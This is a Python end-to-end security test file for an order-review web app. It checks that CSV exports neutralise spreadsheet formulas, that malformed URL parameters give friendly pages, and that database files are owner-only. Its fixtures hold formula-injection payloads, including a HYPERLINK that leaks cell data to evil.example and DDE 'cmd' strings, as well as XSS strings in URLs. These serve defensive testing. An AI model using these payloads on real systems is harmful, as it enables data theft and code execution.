"""What a hostile feed, a hostile link or a careless file mode could do, tried in a real browser:

* every CSV the pages offer (Queue, Insights decision log, Import rejects) neutralises spreadsheet formulas that
  came in with the feed or were typed into a decision, and the tables' own toolbar offers no CSV at all;
* odd or hostile URL parameters open a sensible page, never a traceback or a server path; /overview and /
  both open the Overview;
* the database, its WAL and the first-login file are readable by their owner only (DuckDB files)."""
from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
import textwrap

import pytest

from exq_core import services
from exq_core.ingest import import_file
from exq_core.models import Actor, DecisionRequest, Role, State, actions_for, reasons_for
from exq_core.store import open_store
from tests.browser import RunningApp, sign_in, wait_for_app
from tests.support import ROOT
from tests.e2e.support import (download_csv, fill_sign_in, live_formulas, main_text, session_cookie,
                               sidebar_text)
from tests.integration.conftest import write_feed

pytestmark = pytest.mark.e2e

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the refund")',
    "plus": "+SUM(1,2)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
SAM = Actor(username="sam", role=Role.REVIEWER)    # in the demo database
MARKER = "hostile.example"        # the hostile orders' customer e-mail domain: the Queue's search finds them


def hostile_feed(path):
    """Four valid orders whose ids and texts start like formulas, and six invalid ones (kept as rejects)
    carrying every formula start in their text, tab and carriage return included."""
    valid = [{"order_id": HOSTILE[k], "risk_level": "high", "risk_score": "0.95", "customer_email": f"{k}@{MARKER}",
              "customer_message": HOSTILE[k], "ship_name": HOSTILE["at"], "return_reason": HOSTILE["minus"]}
             for k in ("equals", "plus", "minus", "at")]
    rejected = [{"order_id": f"REJ-{k}", "order_total": "12,50", "customer_message": value, "ship_name": value,
                 "ship_city": HOSTILE["equals"]} for k, value in HOSTILE.items()]
    return write_feed(path, valid + rejected)


def prepare_hostile_data(db, tmp_path) -> tuple[int, str]:
    """Before the app owns the database: import the hostile feed, and decide one of its cases with evidence
    and a note that look like formulas. Returns (import id, the decided order's id)."""
    with open_store(db) as store:
        result = import_file(store, hostile_feed(tmp_path / "hostile.csv"), skip_invalid=True,
                             source="hostile-shop")
        assert result.rejected == len(HOSTILE), result
        with store.read() as cur:
            case_id, bucket = cur.execute("SELECT case_id, bucket FROM cases WHERE source = 'hostile-shop' AND "
                                          "order_id = ?", [HOSTILE["equals"]]).fetchone()
        case = services.claim(store, case_id, SAM)
        services.decide(store, DecisionRequest(
            case_id=case_id, case_version=case.version, to_state=State.RESOLVED,
            action=actions_for(bucket)[0], resolution_reason=reasons_for(bucket)[0],
            evidence='=HYPERLINK("http://evil.example/proof","PSP proof")', note=HOSTILE["plus"]), SAM)
    return result.import_id, HOSTILE["equals"]


def test_every_download_neutralises_formulas_and_tables_offer_none(demo_db, tmp_path, page, artifacts):
    import_id, decided_order = prepare_hostile_data(demo_db, tmp_path)
    app = RunningApp(demo_db)
    try:
        page.set_viewport_size({"width": 1500, "height": 1400})
        sign_in(page, f"{app.url}/queue?q={MARKER}")
        page.get_by_role("heading", name="Queue").wait_for()
        page.get_by_text("3 cases match").wait_for()           # the decided one is resolved
        queue = download_csv(page, page.get_by_role("button", name="Download this page (CSV)"))
        assert sorted(r["Order"] for r in queue) == sorted("'" + HOSTILE[k] for k in ("plus", "minus", "at"))
        assert live_formulas(queue) == []

        # The table's own toolbar: no "Download as CSV" (it would write the cells as they are).
        page.locator("[data-testid='stDataFrame']").first.hover()
        toolbar = page.locator("[data-testid='stElementToolbar']").first
        toolbar.get_by_role("button", name="Search").wait_for()
        labels = [b.get_attribute("aria-label") for b in toolbar.get_by_role("button").all()]
        assert "Download as CSV" not in labels and "Search" in labels, labels
        page.screenshot(path=str(artifacts / "security-queue-hostile-orders.png"), full_page=True)

        page.goto(f"{app.url}/insights")
        wait_for_app(page)
        page.get_by_role("heading", name="Decision log").wait_for()
        log = download_csv(page, page.get_by_role("button", name="Export CSV"))
        [mine] = [r for r in log if r["order_id"] == "'" + decided_order]
        assert mine["evidence"] == "'" + '=HYPERLINK("http://evil.example/proof","PSP proof")'
        assert mine["note"] == "'" + HOSTILE["plus"]
        assert live_formulas(log) == []

        page.goto(f"{app.url}/import")
        wait_for_app(page)
        page.get_by_role("tab", name="History").click()
        wait_for_app(page)
        history = page.get_by_role("tabpanel", name="History")
        history.get_by_text(f"{len(HOSTILE)} rejected value(s)").wait_for()
        rejects = download_csv(page, history.get_by_role("button",
                                                         name="Download the rejected rows to fix and import again (CSV)"))
        assert len(rejects) == len(HOSTILE)
        assert sorted(r["customer_message"] for r in rejects) == sorted("'" + v for v in HOSTILE.values())
        assert {r["ship_city"] for r in rejects} == {"'" + HOSTILE["equals"]}
        assert live_formulas(rejects) == []
        page.screenshot(path=str(artifacts / "security-import-rejects.png"), full_page=True)
    finally:
        app.stop()


TRACES = ("Traceback", 'File "', "/work/", ".py", "Error:", "Exception")

HOSTILE_LINKS = [
    ("/queue?page=99999999999999999999", "Queue", re.compile(r"Page (\d[\d,]*) of \1")),
    ("/queue?page=-3&bucket=fraud_risk,<script>", "Queue", re.compile(r"Page 1 of")),
    ("/queue?bucket=<img src=x onerror=window.__exq_pwned=1>", "Queue", re.compile(r"cases? match")),
    ("/queue?q=" + "A" * 6000 + "&assignee=%E2%80%AEnimda", "Queue", re.compile(r"0 cases match")),
    ("/queue?age=%00%01&state=<b>x</b>&breached=maybe", "Queue", re.compile(r"cases? match")),
    ("/review?case=abc", "Review", re.compile(r"Take the next case")),
    ("/review?case=-1", "Review", re.compile(r"Take the next case")),
    ("/review?case=1e9", "Review", re.compile(r"Take the next case")),
    ("/review?case=99999999999", "Review", re.compile(r"There is no case 99999999999\.")),
    ("/review?case=99999999999999999999999999", "Review", re.compile(r"Take the next case")),
    ("/insights?in_period=<script>", "Insights", re.compile(r"Decision log")),
]


def test_hostile_links_open_a_friendly_page(running_app, page, artifacts):
    sign_in(page, running_app.url)
    for path, heading, expected in HOSTILE_LINKS:
        page.goto(running_app.url + path)
        wait_for_app(page)
        page.get_by_role("heading", name=heading).first.wait_for()
        main = main_text(page)
        assert expected.search(main), (path, main[:500])
        assert page.locator("[data-testid='stException']").count() == 0, path
        assert not [t for t in TRACES if t in main], (path, main[:500])
        assert page.evaluate("window.__exq_pwned") is None, path
        assert page.locator("[data-testid='stMain'] img[src='x']").count() == 0, path
    page.screenshot(path=str(artifacts / "security-hostile-link.png"), full_page=True)


@pytest.mark.parametrize("path", ["/", "/overview", "/overview?bucket=fraud_risk"])
def test_the_overview_opens_at_its_own_address_and_at_the_root(running_app, page, path):
    sign_in(page, running_app.url + path)
    page.get_by_role("heading", name="Overview").wait_for()
    page.get_by_text("Open exceptions").wait_for()
    wait_for_app(page)
    assert "Page not found" not in page.locator("body").inner_text()
    session_cookie(page.context)               # set although the first run after signing in switched pages
    page.goto(running_app.url + path)                        # a reload of that address, signed in
    wait_for_app(page)
    page.get_by_text("Open exceptions").wait_for()
    assert "Page not found" not in page.locator("body").inner_text()


LEAVE_A_WAL = textwrap.dedent("""
    import os, duckdb
    con = duckdb.connect({db!r})
    con.execute("SET checkpoint_threshold = '1GB'")
    con.execute("INSERT INTO meta VALUES ('left-by-a-crash', 'x') ON CONFLICT DO NOTHING")
    os._exit(0)          # killed before any checkpoint: the WAL stays behind
""")


def _mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.mark.duckdb_only
def test_database_wal_and_first_login_file_are_the_owners_only(tmp_path, page, artifacts):
    db = tmp_path / "team" / "exq.duckdb"
    wal = db.with_name(db.name + ".wal")
    loose = {"cwd": ROOT, "capture_output": True, "text": True, "timeout": 60,
             "preexec_fn": lambda: os.umask(0o022)}           # a shell whose files anyone may read
    first = subprocess.run([sys.executable, "-m", "exq_core", "user", "first-run", "--db", str(db)], **loose)
    assert first.returncode == 0, first.stderr
    login_file = db.parent / "first-login.txt"
    password = re.search(r"password: (\S+)", login_file.read_text()).group(1)
    assert _mode(login_file) == 0o600 and _mode(db) == 0o600

    # What a crash and a careless restore leave behind: a WAL and a database file anyone may read.
    crash = subprocess.run([sys.executable, "-c", LEAVE_A_WAL.format(db=str(db))], **loose)
    assert crash.returncode == 0, crash.stderr
    os.chmod(db, 0o644)
    assert wal.exists() and _mode(wal) == 0o644

    app = RunningApp(db)
    try:
        sign_in(page, app.url, "admin", password)             # the first sign-in, from the first-login file
        assert "Signed in as admin (manager)" in sidebar_text(page)
        page.get_by_text("This database has no orders yet.").wait_for()
        assert _mode(db) == 0o600
        assert wal.exists() and _mode(wal) == 0o600
        assert _mode(login_file) == 0o600
        page.screenshot(path=str(artifacts / "security-first-sign-in.png"), full_page=True)
        # A later sign-in writes again (a new session): still the owner's only.
        page.locator(".st-key-sign_out button").click()
        wait_for_app(page)
        fill_sign_in(page, "admin", password)
        page.get_by_text("This database has no orders yet.").wait_for()
        for path in (db, wal, login_file):
            assert not path.exists() or _mode(path) == 0o600, path
    finally:
        app.stop()
